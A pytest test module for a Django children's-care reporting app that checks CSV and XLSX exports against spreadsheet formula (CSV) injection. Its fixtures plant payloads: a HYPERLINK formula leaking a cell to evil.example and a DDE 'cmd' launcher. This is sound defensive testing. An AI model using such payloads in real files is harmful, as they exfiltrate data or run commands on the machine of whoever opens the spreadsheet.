"""No download hands a spreadsheet a formula: text a partner or a person typed that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return goes out as text (OWASP "CSV injection")."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from homeward.accounts.models import Role
from homeward.children.models import Child
from homeward.reports.cells import safe_cell
from tests.factories import AuthorityFactory, EstablishmentFactory, TeamFactory, UserFactory, sign_in
from tests.reports.builders import episode, placed_child

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
PLANTED = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def plant() -> tuple[Client, Child]:
    authority = AuthorityFactory()
    home = EstablishmentFactory(name="=Oak()", postcode="=1+1")
    team = TeamFactory(organisation=authority, name="-Team+1")
    amy = placed_child(home, since="2025-01-10 12:00", authority=authority, team=team)
    ben = placed_child(home, since="2025-01-10 12:00", authority=authority, team=team)
    for child in (amy, ben):
        episode(
            child,
            "2025-06-10 21:30",
            8,
            found_where="@SUM(1+1)",
            associates=[HYPERLINK, "-2+3"],
            places=["+cmd|' /C calc'!A0"],
        )
    client = Client()
    sign_in(client, UserFactory(organisation=authority, role=Role.MISSING_COORDINATOR))
    return client, amy


def assert_no_formula(values: list[object]) -> None:
    texts = [v for v in values if isinstance(v, str)]
    assert texts, "the download had no text at all"
    bad = [v for v in texts if v.startswith(FORMULA_START)]
    assert not bad, f"cells a spreadsheet would read as formulas: {bad!r}"


@pytest.mark.parametrize("value", PLANTED)
def test_the_helper_turns_each_formula_start_into_text_and_keeps_what_was_typed(value: str) -> None:
    made = safe_cell(value)
    assert isinstance(made, str) and made == "'" + value


@pytest.mark.parametrize("value", ["Dean Smith", "14 Bath Street", "", 3, 2.5, None, "C12", "UN5"])
def test_the_helper_leaves_ordinary_values_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_oversight_csv_and_xlsx_carry_no_formula() -> None:
    client, _ = plant()
    period = {"start": "2025-06-01", "end": "2025-06-30", "scope": "all"}
    page = client.get("/reports/oversight/", period)
    assert page.status_code == 200
    slugs = [t.slug for t in page.context["tables"]]
    seen: list[object] = []
    for slug in slugs:
        got = client.get("/reports/oversight/", {**period, "download": "csv", "table": slug})
        rows = list(csv.reader(StringIO(got.content.decode("utf-8-sig"))))
        cells: list[object] = [cell for row in rows for cell in row]
        assert_no_formula(cells)
        seen += cells
    assert "'" + HYPERLINK in seen and "'@SUM(1+1)" in seen and "'=Oak()" in seen
    book = load_workbook(
        BytesIO(client.get("/reports/oversight/", {**period, "download": "xlsx", "table": "all"}).content)
    )
    cells_x = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells_x if c.data_type == "f"]
    assert_no_formula([c.value for c in cells_x])
    assert "'" + HYPERLINK in [c.value for c in cells_x]


def test_annex_a_page_and_command_carry_no_formula(tmp_path: Path) -> None:
    client, _ = plant()
    census = {"date": "2025-06-30"}
    got = client.get("/reports/annex-a/", {**census, "download": "csv", "table": "list-8-missing"})
    rows = list(csv.reader(StringIO(got.content.decode("utf-8-sig"))))
    assert_no_formula([cell for row in rows for cell in row])
    assert "'-Team+1" in rows[1]
    book = load_workbook(BytesIO(client.get("/reports/annex-a/", {**census, "download": "xlsx"}).content))
    assert_no_formula([c.value for s in book.worksheets for row in s.iter_rows() for c in row])
    call_command("annex_a", "--date", "2025-06-30", "--out", str(tmp_path / "a.csv"), stdout=StringIO())
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert_no_formula([cell for row in csv.reader(handle) for cell in row])


def test_903_free_text_is_neutralised_and_its_codes_are_kept(tmp_path: Path) -> None:
    client, amy = plant()
    call_command("ssda903", "--year", "2026", "--out", str(tmp_path), stdout=StringIO())
    with (tmp_path / "episodes.csv").open(newline="") as handle:
        episodes = list(csv.DictReader(handle))
    mine = next(r for r in episodes if r["CHILD"] == str(amy.pk))
    assert mine["PL_POST"] == "'=1+1"  # the establishment's postcode is typed, not a code
    assert (mine["PLACE"], mine["CIN"], mine["URN"], mine["RNE"]) == ("K2", "N1", "XXXXXXX", "S")
    page = client.get("/reports/ssda903/", {"year": "2026", "download": "episodes"})
    assert list(csv.DictReader(StringIO(page.content.decode()))) == episodes
    for name in ("header", "missing"):
        with (tmp_path / f"{name}.csv").open(newline="") as handle:
            assert_no_formula([cell for row in csv.reader(handle) for cell in row])
